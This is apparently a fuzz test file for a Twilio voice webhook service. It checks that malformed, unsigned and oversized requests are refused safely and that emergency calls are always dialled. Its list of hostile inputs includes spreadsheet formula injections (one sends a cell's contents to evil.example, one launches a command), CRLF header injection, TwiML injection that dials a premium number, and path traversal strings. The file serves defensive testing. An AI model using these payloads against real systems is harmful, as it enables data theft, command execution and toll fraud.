/**
 * The voice webhooks fed hostile requests (docs/call-flow.md, docs/design.md security): fast-check drives
 * `makeVoiceApp` — the same pipeline the Lambda runs — over in-memory stores that count every
 * write. Bodies of random bytes, fields that are huge, control characters, lone surrogates,
 * CRLF and formula payloads, 10,000 fields, bodies either side of 64 KB, `step` values that are
 * not numbers, repeated fields; signed as Twilio signs (so they reach the call flow) or not.
 *
 * Whatever arrives: the app answers (never throws), with 200 and TwiML Twilio can run, or a
 * clear plain-text 4xx; a 4xx stores nothing; an unverified request is refused unless it is an
 * emergency call; 911 dialled from a verified request is always dialled. Seeds are fixed so a
 * failure reproduces; `FC_SEED` overrides.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { signTwilioRequest } from '../../functions/adapters/twilio/signature.ts';
import type { Settings } from '../../functions/core/settings.ts';
import { MAX_BODY_BYTES, type HttpEvent, type HttpResult } from '../../functions/services/voice.ts';
import { twimlProblems } from '../fixtures/twilio/twiml-check.ts';
import { memoryVoice } from '../support/memory-voice.ts';
import { testSettings } from '../support/settings.ts';

const SID = `AC${'5e'.repeat(16)}`;
const TOKEN = 'fuzz-token';
const BASE = 'https://voice.fuzz.example';
const SEED = Number(process.env.FC_SEED ?? 20261121);
const _PEPPER = 'fuzz-pepper';

function settingsOf(): Settings {
  return testSettings({
    twilioAccountSids: [SID],
    callerId: '+14155550100',
    codeLength: { min: 4, max: 6 },
    calls: { default: 'free', international: 'required', directory: 'optional', premium: 'authorized' },
    entryPoints: { 'acme.sip.twilio.com': { codes: true }, '+14155550100': { forwardTo: 'sip:reception@acme.sip.twilio.com' } },
  });
}

function newApp() {
  const settings = settingsOf();
  const voice = memoryVoice({
    settings,
    accountSid: SID,
    token: TOKEN,
    baseUrl: BASE,
    codes: [{ key: 'A#0042', kind: 'account', code: '0042', enabled: true, description: 'Smith v Jones' }],
  });
  return { app: voice.app, stores: { writes: voice.writes, calls: voice.calls }, alerts: voice.alerts };
}

let sids = 0;
const freshCallSid = () => `CA${(++sids).toString(16).padStart(32, '0')}`;

/** Strings that have broken webhook parsers, TwiML renderers and spreadsheets. */
const NASTY = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  'Smith\r\nX-Injected: yes',
  '\r\n\r\n<Response><Dial>+19005550000</Dial></Response>',
  ']]><Dial><Number>+19005550000</Number></Dial>',
  '&amp;<>"\'&',
  '\u0000',
  'a\u0007b\u001bc',
  '\ud800',
  'x\udfffy',
  '\uFFFE',
  '\u202Eevil',
  '\uFEFF911',
  '911',
  '112',
  '+44999',
  '+1911',
  'sip:911@acme.sip.twilio.com',
  'client:alice',
  'client:',
  'sip:',
  'sip:+442079460018@acme.sip.twilio.com',
  'sip:%00@acme.sip.twilio.com',
  '0042',
  '0042#',
  '##',
  '#',
  '',
  ' ',
  '+12125550100',
  '+442079460018',
  '+19005550100',
  '411',
  '+14155550100',
  'constructor',
  '__proto__',
  'NaN',
  '-1',
  '1e309',
];

const shortText = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 2, arbitrary: fc.string({ maxLength: 30 }) },
  // Any code point, lone surrogates included.
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
);
/** With a few huge values too: 1,000 to 20,000 characters, some of which grow ninefold when form-encoded. */
const text = fc.oneof(
  { weight: 8, arbitrary: shortText },
  {
    weight: 1,
    arbitrary: fc.tuple(fc.constantFrom(...NASTY), fc.integer({ min: 1_000, max: 20_000 })).map(([s, n]) => s.repeat(Math.ceil(n / Math.max(1, s.length))).slice(0, n)),
  },
);

const TWILIO_FIELDS = [
  'AccountSid',
  'CallSid',
  'From',
  'To',
  'Digits',
  'FinishedOnKey',
  'CallStatus',
  'CallDuration',
  'DialCallStatus',
  'DialCallDuration',
  'SipDomain',
  'ApplicationSid',
  'Direction',
  'Caller',
  'Called',
];

interface Plan {
  readonly method: string;
  readonly path: string;
  readonly query: string;
  readonly body:
    | { readonly kind: 'bytes'; readonly bytes: Uint8Array; readonly contentType: string | undefined }
    | { readonly kind: 'form'; readonly fields: readonly (readonly [string, string])[]; readonly signed: 'valid' | 'wrong' | 'none' };
  /** A call this request belongs to, set up beforehand: none, at its prompt, or dialled. */
  readonly existing: 'none' | 'prompting' | 'dialled';
  readonly base64: boolean;
}

const stepValue = fc.oneof(
  fc.integer({ min: 0, max: 4 }).map(String),
  fc.constantFrom('abc', '-1', '1.5', '1e1', '0x1', ' 1', '1 ', '01', '+1', '99', '100', '99999999999999999999', '', 'Infinity', 'NaN', '%31', '1%00'),
  fc.string({ maxLength: 12 }),
);
const query = fc.oneof(
  fc.constant(''),
  stepValue.map((s) => `step=${encodeURIComponent(s)}`),
  stepValue.map((s) => `step=${s}`),
  fc.tuple(stepValue, stepValue).map(([a, b]) => `step=${a}&step=${b}`),
  fc.string({ unit: 'grapheme-ascii', maxLength: 40 }),
);

const formFields = fc
  .tuple(
    fc.record({
      AccountSid: fc.oneof({ weight: 5, arbitrary: fc.constant(SID) }, { weight: 1, arbitrary: text }),
      CallSid: fc.oneof({ weight: 5, arbitrary: fc.constant('<call>') }, { weight: 1, arbitrary: text }),
    }),
    fc.array(fc.tuple(fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...TWILIO_FIELDS) }, { weight: 1, arbitrary: text }), text), { maxLength: 12 }),
    // Sometimes 10,000 fields: distinct short names, or one name repeated.
    fc.constantFrom(0, 0, 0, 0, 0, 0, 0, 0, 10_000),
    fc.boolean(),
  )
  .map(([required, more, many, repeatOne]) => {
    const fields: [string, string][] = [['AccountSid', required.AccountSid], ['CallSid', required.CallSid], ...more.map(([k, v]) => [k, v] as [string, string])];
    for (let i = 0; i < many; i++) fields.push(repeatOne ? ['Digits', String(i % 10)] : [i.toString(36), '']);
    return fields;
  });

const plan: fc.Arbitrary<Plan> = fc.record({
  method: fc.oneof({ weight: 9, arbitrary: fc.constant('POST') }, { weight: 1, arbitrary: fc.constantFrom('GET', 'PUT', 'DELETE', 'post', 'HEAD') }),
  path: fc.oneof(
    { weight: 8, arbitrary: fc.constantFrom('/voice/incoming', '/voice/code', '/voice/dial-complete', '/voice/status', '/voice/fallback') },
    { weight: 1, arbitrary: fc.constantFrom('/voice/code/', '/voice/', '/voice', '/', '/voice/incoming/../status', '/VOICE/INCOMING', '/voice/%2e%2e/health') },
  ),
  query,
  body: fc.oneof(
    {
      weight: 1,
      arbitrary: fc.record({
        kind: fc.constant('bytes' as const),
        bytes: fc.uint8Array({ maxLength: 2_000 }),
        contentType: fc.option(
          fc.constantFrom(
            'application/x-www-form-urlencoded',
            'text/plain',
            'application/json',
            'multipart/form-data; boundary=x',
            'application/x-www-form-urlencoded; charset=ISO-8859-1',
          ),
          { nil: undefined },
        ),
      }),
    },
    { weight: 4, arbitrary: fc.record({ kind: fc.constant('form' as const), fields: formFields, signed: fc.constantFrom('valid', 'valid', 'valid', 'wrong', 'none') }) },
  ),
  existing: fc.constantFrom('none', 'prompting', 'dialled'),
  base64: fc.oneof({ weight: 4, arbitrary: fc.constant(true) }, { weight: 1, arbitrary: fc.constant(false) }),
});

function encodeForm(fields: readonly (readonly [string, string])[]): string {
  const params = new URLSearchParams();
  for (const [k, v] of fields) params.append(k, v);
  return params.toString();
}

/** The form as the server will parse it (its own URL-decoding of its own UTF-8), for signing. */
function parsedForm(body: string): Record<string, string | string[]> {
  const out: Record<string, string | string[]> = {};
  for (const [k, v] of new URLSearchParams(body)) {
    const prev = out[k];
    out[k] = prev === undefined ? v : Array.isArray(prev) ? [...prev, v] : [prev, v];
  }
  return out;
}

function event(method: string, path: string, query: string, body: Uint8Array, headers: Record<string, string>, base64: boolean): HttpEvent {
  return {
    rawPath: path,
    rawQueryString: query,
    headers,
    ...(body.length === 0 ? {} : { body: base64 ? Buffer.from(body).toString('base64') : Buffer.from(body).toString('utf8') }),
    isBase64Encoded: base64,
    requestContext: { http: { method } },
  };
}

const FORM = 'application/x-www-form-urlencoded; charset=utf-8';

/** A form post of `body` to `path`, signed as Twilio signs it (over the fields it parses to). */
function signedPost(path: string, query: string, body: string): HttpEvent {
  const url = `${BASE}${path}${query === '' ? '' : `?${query}`}`;
  return event('POST', path, query, Buffer.from(body), { 'content-type': FORM, 'x-twilio-signature': signTwilioRequest(url, parsedForm(body), TOKEN) }, true);
}

/** A call started with a signed first webhook, as Twilio would, to a number that prompts. */
async function startCall(app: (e: HttpEvent) => Promise<HttpResult>, to: string): Promise<string> {
  const callSid = freshCallSid();
  const params = { AccountSid: SID, CallSid: callSid, From: 'client:alice', To: to };
  const res = await app(signedPost('/voice/incoming', '', encodeForm(Object.entries(params))));
  expect(res.statusCode).toBe(200);
  return callSid;
}

const ALLOWED = new Set([200, 400, 403, 404, 405, 413]);

async function check(p: Plan): Promise<void> {
  const { app, stores } = newApp();
  let callSid = freshCallSid();
  if (p.existing !== 'none') callSid = await startCall(app, p.existing === 'prompting' ? '+442079460018' : '+12125550100');
  const headers: Record<string, string> = {};
  let bytes: Uint8Array;
  let signedValidly = false;
  if (p.body.kind === 'bytes') {
    bytes = p.body.bytes;
    if (p.body.contentType !== undefined) headers['content-type'] = p.body.contentType;
  } else {
    const fields = p.body.fields.map(([k, v]) => [k, v === '<call>' ? callSid : v] as const);
    const body = encodeForm(fields);
    bytes = Buffer.from(body, 'utf8');
    headers['content-type'] = FORM;
    const url = `${BASE}${p.path}${p.query === '' ? '' : `?${p.query}`}`;
    if (p.body.signed === 'valid') {
      headers['x-twilio-signature'] = signTwilioRequest(url, parsedForm(Buffer.from(bytes).toString('utf8')), TOKEN);
      signedValidly = true;
    } else if (p.body.signed === 'wrong') {
      headers['x-twilio-signature'] = signTwilioRequest(url, parsedForm(body), 'not-the-token');
    }
  }
  const writesBefore = stores.writes.count;
  const res = await app(event(p.method, p.path, p.query, bytes, headers, p.base64));
  const label = `${p.method} ${p.path}?${p.query} → ${res.statusCode} ${res.body.slice(0, 200)}`;

  expect(ALLOWED.has(res.statusCode), label).toBe(true);
  if (res.statusCode === 200) {
    expect(res.headers['content-type'], label).toMatch(/^text\/xml\b/);
    expect(twimlProblems(res.body, { emptyAllowed: p.path === '/voice/status' }), label).toEqual([]);
  } else {
    expect(res.headers['content-type'], label).toMatch(/^text\/plain\b/);
    expect(res.body.length, label).toBeLessThan(300);
    // A refused request stores nothing.
    expect(stores.writes.count, label).toBe(writesBefore);
  }
  // Only a request that verified (or an emergency call) reaches the call flow.
  if (res.statusCode === 200 && !signedValidly && p.path !== '/voice/fallback') {
    expect(res.body, label).toMatch(/<Dial\b/);
    expect(stores.writes.count, label).toBe(writesBefore);
  }
  // A request Twilio signed for an account that exists is never refused as unverified.
  if (signedValidly && p.body.kind === 'form' && p.body.fields[0]?.[1] === SID) expect(res.statusCode, label).not.toBe(403);
}

describe('voice webhooks given hostile requests', () => {
  it('answer every request with TwiML Twilio can run or a plain 4xx, storing nothing for a 4xx', async () => {
    await fc.assert(fc.asyncProperty(plan, check), { numRuns: 300, seed: SEED });
  });

  it('refuse bodies over 64 KB with 413 before parsing them, and take one of exactly 64 KB', async () => {
    const { app, stores } = newApp();
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: -64, max: 64 }), fc.boolean(), async (delta, base64) => {
        const size = MAX_BODY_BYTES + delta;
        const body = Buffer.alloc(size, 'a');
        const res = await app(event('POST', '/voice/incoming', '', body, { 'content-type': FORM }, base64));
        // Not too large: parsed, then refused for what it lacks (no CallSid), never stored.
        expect(res.statusCode).toBe(delta > 0 ? 413 : 400);
        expect(stores.writes.count).toBe(0);
      }),
      { numRuns: 60, seed: SEED },
    );
  });

  it('answer a signed code step whose step is not a whole number from 1 to 99 with 400, changing nothing', async () => {
    const { app, stores } = newApp();
    const callSid = await startCall(app, '+442079460018');
    const before = JSON.stringify(stores.calls.get(callSid));
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.constantFrom('abc', '-1', '0', '1.5', '1e1', '0x1', ' 1', '+1', '01', '100', '99999999999999999999', '', 'Infinity', '1%00'),
          fc.string({ maxLength: 8 }).filter((s) => !/^[1-9][0-9]?$/.test(s)),
        ),
        async (step) => {
          const q = `step=${encodeURIComponent(step)}`;
          const params = { AccountSid: SID, CallSid: callSid, From: 'client:alice', To: '+442079460018', Digits: '0042' };
          const res = await app(signedPost('/voice/code', q, encodeForm(Object.entries(params))));
          expect(res.statusCode, `step=${JSON.stringify(step)}`).toBe(400);
          expect(res.body).toMatch(/step/);
        },
      ),
      { numRuns: 100, seed: SEED },
    );
    expect(JSON.stringify(stores.calls.get(callSid))).toBe(before);
  });

  it('refuse a verified first webhook whose From, To or SipDomain holds a control character with 400, storing nothing', async () => {
    const { app, stores } = newApp();
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom('From', 'To', 'SipDomain'),
        fc.constantFrom('+442079460018', 'client:bob', '+12125550100', 'sip:+442079460018@acme.sip.twilio.com', 'acme.sip.twilio.com'),
        fc.integer({ min: 0, max: 40 }),
        fc.oneof(fc.integer({ min: 0, max: 0x1f }), fc.integer({ min: 0x7f, max: 0x9f }), fc.constantFrom(0xfffe, 0xffff)).map((c) => String.fromCharCode(c)),
        async (field, value, at, bad) => {
          const params: Record<string, string> = { AccountSid: SID, CallSid: freshCallSid(), From: 'client:alice', To: '+442079460018' };
          params[field] = value.slice(0, at) + bad + value.slice(at);
          const res = await app(signedPost('/voice/incoming', '', encodeForm(Object.entries(params))));
          expect(res.statusCode, JSON.stringify(params)).toBe(400);
          expect(res.body).toContain(field);
          expect(stores.writes.count).toBe(0);
        },
      ),
      { numRuns: 100, seed: SEED },
    );
  });

  it('always dial 911 for a verified request, whatever else its fields carry', async () => {
    await fc.assert(
      // Fields Twilio could send (a body over 64 KB is refused before anything is read: test above).
      fc.asyncProperty(fc.array(fc.tuple(shortText, shortText), { maxLength: 8 }), fc.constantFrom('911', '112', '+1911'), async (extra, to) => {
        const { app } = newApp();
        const fields: [string, string][] = [
          ['AccountSid', SID],
          ['CallSid', freshCallSid()],
          ['From', 'client:alice'],
          ['To', to],
          ...extra.filter(([k]) => !['AccountSid', 'CallSid', 'To'].includes(k)),
        ];
        const res = await app(signedPost('/voice/incoming', '', encodeForm(fields)));
        expect(res.statusCode).toBe(200);
        expect(twimlProblems(res.body)).toEqual([]);
        expect(res.body).toMatch(/<Dial[^>]*><Number>(911|112)<\/Number><\/Dial>/);
      }),
      { numRuns: 100, seed: SEED },
    );
  });
});
